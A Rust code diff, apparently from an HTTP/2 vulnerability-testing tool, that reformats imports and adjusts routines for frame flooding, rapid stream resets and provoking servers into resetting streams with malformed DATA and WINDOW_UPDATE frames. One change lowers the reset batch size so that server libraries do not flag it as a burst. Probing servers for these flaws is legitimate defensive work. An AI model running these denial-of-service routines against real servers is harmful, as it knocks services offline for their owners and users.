@@ -8,8 +8,8 @@ use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, Writ
 
 use super::beside;
 use super::frames::{
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
-    head,
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE, RST_STREAM, SETTINGS,
+    WINDOW_UPDATE, frame, head,
 };
 use super::report::{Held, Report};
 use crate::target::{Stream, Target};
@@ -50,7 +50,8 @@ pub(super) async fn repeat(target: &Target, report: &Report, make: fn(u32) -> Ve
     let flood = async {
         let mut count = 0_u32;
         loop {
-            let piece: Vec<u8> = (0..FRAMES_AT_ONCE).flat_map(|step| make(count.wrapping_add(step))).collect();
+            let piece: Vec<u8> =
+                (0..FRAMES_AT_ONCE).flat_map(|step| make(count.wrapping_add(step))).collect();
             count = count.wrapping_add(FRAMES_AT_ONCE);
             send(&mut write, report, &piece, FRAMES_AT_ONCE).await?;
         }
@@ -59,7 +60,8 @@ pub(super) async fn repeat(target: &Target, report: &Report, make: fn(u32) -> Ve
 }
 
 pub(super) async fn resets(target: &Target, report: &Report, pause: Duration) -> io::Result<()> {
-    let at_once = if pause.is_zero() { 100 } else { 20 };
+    // Few enough at a time that no library takes it for a burst.
+    let at_once = if pause.is_zero() { 100 } else { 8 };
     in_streams(target, report, at_once, pause, |target, stream| {
         let mut piece = request(target, stream, false);
         // CANCEL
@@ -69,12 +71,13 @@ pub(super) async fn resets(target: &Target, report: &Report, pause: Duration) ->
     .await
 }
 
-/// Three ways to make a server reset a stream: a window update of nothing, more than a window holds, and data
-/// after the end.
+/// Ways to make a server reset a stream, each on connections of its own: data after the end, more than a window
+/// holds, a window update of nothing.
 pub(super) async fn made_you_reset(target: &Target, report: &Report) -> io::Result<()> {
+    let way = report.tried.get() % 3;
     in_streams(target, report, 20, Duration::ZERO, |target, stream| {
         let mut piece = request(target, stream, true);
-        piece.extend(match stream / 2 % 3 {
+        piece.extend(match way {
             0 => frame(DATA, 0, stream, b"more"),
             1 => frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
             _ => frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
